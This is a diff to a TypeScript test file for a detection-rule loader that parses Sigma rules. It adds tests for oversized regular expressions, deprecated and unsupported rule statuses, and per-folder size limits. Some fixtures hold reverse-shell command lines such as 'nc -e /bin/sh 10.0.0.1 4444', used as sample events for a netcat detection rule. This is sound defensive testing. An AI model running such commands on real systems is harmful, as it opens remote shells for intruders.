@@ -46,6 +46,7 @@ describe('a detection file', () => {
     { name: 'a bad value, by its line', written: text.replace('severity: medium', 'severity: terrible'), says: new RegExp(`^x\\.yaml:${lineOf('severity')}: severity`) },
     { name: 'a bad selection, by its line', written: text.replace('commandLine: "*sudo*"', 'commandLine|nosuch: "*sudo*"'), says: new RegExp(`^x\\.yaml:${lineOf('commandLine: "')}: sigma\\.selection`) },
     { name: 'a misspelt field', written: text.replace('commandLine: "*sudo*"', 'comandLine: "*sudo*"'), says: /comandLine/ },
+    { name: 'expressions that blow up, by their line', written: text.replace('commandLine: "*sudo*"', `commandLine|re: [${Array.from({ length: 4000 }, (_, i) => `"(a|b|c|d){1,200}z${i}"`).join(', ')}]`), says: new RegExp(`^x\\.yaml:${lineOf('commandLine: "')}: sigma\\.selection\\.commandLine\\|re: .*parts in all$`) },
     { name: 'a list', written: '- 1\n- 2\n', says: /^x\.yaml:1: / },
     { name: 'nothing', written: '', says: /^x\.yaml:1: / },
     { name: 'nesting without end', written: '['.repeat(100_000), says: /^x\.yaml:\d+: / },
@@ -96,11 +97,18 @@ describe('a Sigma file, unchanged', () => {
     expect(alerts('echo "nc -e /bin/sh"')).toEqual([]);
   });
 
+  it.each(['deprecated', 'unsupported'])('is loaded and judges nothing when it is %s', (status) => {
+    const parsed = parseDetection(SIGMA.replace('status: test', `status: ${status}`), 'nc.yml', TOOLS);
+    if ('reason' in parsed) throw new Error(parsed.reason);
+    const events = eventsOf(Fixture.parse({ commandLine: 'nc -e /bin/sh 10.0.0.1 4444' }), TOOLS.hash128);
+    expect(backtest([events], { ...TOOLS, rules: [parsed.rule] })).toEqual([]);
+  });
+
   it.each([
     { name: 'a source that agents do not have', written: SIGMA.replace('process_creation', 'registry_set'), says: /^x\.yaml:9: logsource\.category/ },
     { name: 'a correlation', written: `${SIGMA}\ncorrelation: { type: event_count }\n`, says: /correlation/ },
     { name: 'a modifier that is not Sigma', written: SIGMA.replace('Image|endswith', 'Image|endsin'), says: /^x\.yaml:12: / },
-    { name: 'an unsupported status', written: SIGMA.replace('status: test', 'status: unsupported'), says: /^x\.yaml:4: status/ },
+    { name: 'a status that is not Sigma', written: SIGMA.replace('status: test', 'status: unheard'), says: /^x\.yaml:4: status/ },
   ])('is refused for $name', ({ written, says }) => {
     expect(problemOf(written)).toMatch(says);
   }); // prettier-ignore
@@ -127,6 +135,18 @@ describe('a folder of detections', () => {
       'huge.yaml: 300000 bytes, at most 262144 are read',
       'sudo-again.yaml:1: id sudo-used is taken by command/sudo.yaml',
     ]);
+  });
+
+  it('stops where all its rules together grow too large', async () => {
+    const large = await mkdtemp(join(tmpdir(), 'vigil-detections-'));
+    const expressions = Array.from({ length: 40 }, (_, i) => `'(a|b|c|d){1,200}z${i}'`).join(', ');
+    const sigma = SIGMA.replace('CommandLine|contains', 'CommandLine|re').replace("' -e ', ' -c '", expressions);
+    for (let i = 0; i < 20; i += 1)
+      await writeFile(join(large, `${String(i).padStart(2, '0')}.yaml`), sigma.replace(/^id:.*$/m, `id: rule-${i}`));
+    const { detections, problems } = await loadDetections([large], TOOLS);
+    expect(detections).toHaveLength(13);
+    expect(problems.map(describeProblem)).toEqual([expect.stringMatching(/^13\.yaml: .*over 1000000 parts/)]);
+    await rm(large, { recursive: true });
   });
 
   it('has a fingerprint that changes with its files', async () => {
